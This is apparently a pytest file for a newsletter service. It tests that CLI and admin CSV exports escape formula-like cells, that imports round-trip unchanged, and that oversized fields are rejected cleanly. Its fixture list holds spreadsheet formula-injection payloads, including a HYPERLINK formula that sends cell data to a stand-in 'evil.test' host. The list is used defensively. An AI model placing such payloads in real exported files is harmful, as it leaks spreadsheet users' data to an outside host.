"""CSV files are safe in a spreadsheet and still round-trip: every export (CLI and admin) escapes
formula-looking cells the same way, the importer takes the escape off again, and a field too
large for the csv module is one error on its line, in the CLI and in the admin, importing nothing."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import httpx
import pytest
from sqlalchemy import delete, select

from service.cli import main
from service.csvfile import csv_cell, unescape_cell
from service.newsletter import flows
from service.newsletter.exporter import export_subscribers
from service.newsletter.importer import ImportFileError, import_subscribers
from service.newsletter.models import Subscriber, SubscriberTopic
from service.settings import Settings
from service.tokens import Tokens
from tests.conftest import TEST_SECRET, Database
from tests.factories import add_subscriber, count, csrf

FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+1", "-2", "@x", "\t=cmd", "\r=cmd",
            "'=already quoted", "''@twice"]


@pytest.mark.parametrize("value", [*FORMULAS, "plain", "", "it's", "'", "a=b", "'plain"])
def test_unescape_undoes_the_escape(value: str) -> None:
    cell = csv_cell(value)
    assert unescape_cell(cell) == value
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


async def _cli_export(db: Database, monkeypatch: pytest.MonkeyPatch, path: Path) -> str:
    monkeypatch.setenv("DATABASE_URL", db.url)
    monkeypatch.setenv("SECRET_KEY", TEST_SECRET)
    assert await asyncio.to_thread(main, ["subscribers", "export", "-o", str(path)]) == 0
    return (await asyncio.to_thread(path.read_bytes)).decode("utf-8")


async def test_cli_and_admin_exports_escape_formula_cells_alike(
    admin_client: httpx.AsyncClient, db: Database, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    for i, name in enumerate(FORMULAS):
        await add_subscriber(db, f"s{i}@example.org", name=name, signup_user_agent="-UA", last_bounce="@bounce")
    cli = await _cli_export(db, monkeypatch, tmp_path / "cli.csv")
    admin = (await admin_client.get("/admin/subscribers/export.csv")).text
    assert cli == admin  # one writer
    rows = list(csv.DictReader(io.StringIO(cli)))
    assert [r["name"] for r in rows] == ["'" + name for name in FORMULAS]
    assert {r["signup_user_agent"] for r in rows} == {"'-UA"} and {r["last_bounce"] for r in rows} == {"'@bounce"}
    every_cell = [cell for row in csv.reader(io.StringIO(cli)) for cell in row]
    assert not [c for c in every_cell if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


async def test_export_with_formula_cells_imports_back_unchanged(db: Database, settings: Settings) -> None:
    tokens = Tokens(settings)
    names = ['=HYPERLINK("http://evil.test","x")', "+1", "-2", "@x", "'=already quoted", "Plain"]
    async with db.sessions.begin() as session:
        for i, name in enumerate(names):
            await flows.request_subscription(session, settings=settings, tokens=tokens,
                                             email=f"+tag{i}@example.org", name=name, topics=["PTSD"],
                                             ip="198.51.100.1", user_agent="-ua", source="=form",
                                             consent_text="+yes")
    first = io.StringIO()
    async with db.sessions() as session:
        assert await export_subscribers(session, first) == len(names)
        before = [(s.email, s.name, s.signup_source, s.consent_text, s.signup_user_agent)
                  for s in (await session.scalars(select(Subscriber).order_by(Subscriber.id))).all()]
    assert "'+tag0@example.org" in first.getvalue()
    async with db.sessions.begin() as session:
        await session.execute(delete(SubscriberTopic))
        await session.execute(delete(Subscriber))
    async with db.sessions.begin() as session:
        report = await import_subscribers(session, io.BytesIO(first.getvalue().encode()), settings=settings,
                                          tokens=tokens)
    assert report.added == len(names) and report.error_count == 0, report.summary_lines()
    async with db.sessions() as session:
        after = [(s.email, s.name, s.signup_source, s.consent_text, s.signup_user_agent)
                 for s in (await session.scalars(select(Subscriber).order_by(Subscriber.id))).all()]
    assert after == before
    second = io.StringIO()
    async with db.sessions() as session:
        await export_subscribers(session, second)
    assert second.getvalue() == first.getvalue()


def _huge_file() -> bytes:
    big = "x" * (200 * 1024)
    return f"email,name\nok@example.org,Fine\nbig@example.org,{big}\nlater@example.org,Later\n".encode()


async def test_a_field_over_the_csv_limit_is_an_error_on_its_line(db: Database, settings: Settings) -> None:
    with pytest.raises(ImportFileError, match=r"line 3: a field is longer than 128 KB.*nothing was imported"):
        async with db.sessions.begin() as session:
            await import_subscribers(session, io.BytesIO(_huge_file()), settings=settings, tokens=Tokens(settings))
    big_header = ("email," + "y" * (200 * 1024) + "\n").encode()
    with pytest.raises(ImportFileError, match="line 1: a field is longer than 128 KB"):
        async with db.sessions.begin() as session:
            await import_subscribers(session, io.BytesIO(big_header), settings=settings, tokens=Tokens(settings))
    assert await count(db, Subscriber) == 0


async def test_cli_import_of_a_huge_field_is_one_line_and_imports_nothing(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATABASE_URL", db.url)
    monkeypatch.setenv("SECRET_KEY", TEST_SECRET)
    path = tmp_path / "huge.csv"
    await asyncio.to_thread(path.write_bytes, _huge_file())
    assert await asyncio.to_thread(main, ["subscribers", "import", str(path)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert "huge.csv: line 3: a field is longer than 128 KB" in err and "nothing was imported" in err
    assert await count(db, Subscriber) == 0


async def test_admin_import_of_a_huge_field_is_a_clear_error(admin_client: httpx.AsyncClient, db: Database) -> None:
    data = {"csrf_token": await csrf(admin_client), "step": "check", "token": ""}
    r = await admin_client.post("/admin/subscribers/import", data=data,
                                files={"file": ("people.csv", _huge_file(), "text/csv")})
    assert r.status_code == 422
    assert "people.csv: line 3: a field is longer than 128 KB" in r.text
    assert await count(db, Subscriber) == 0
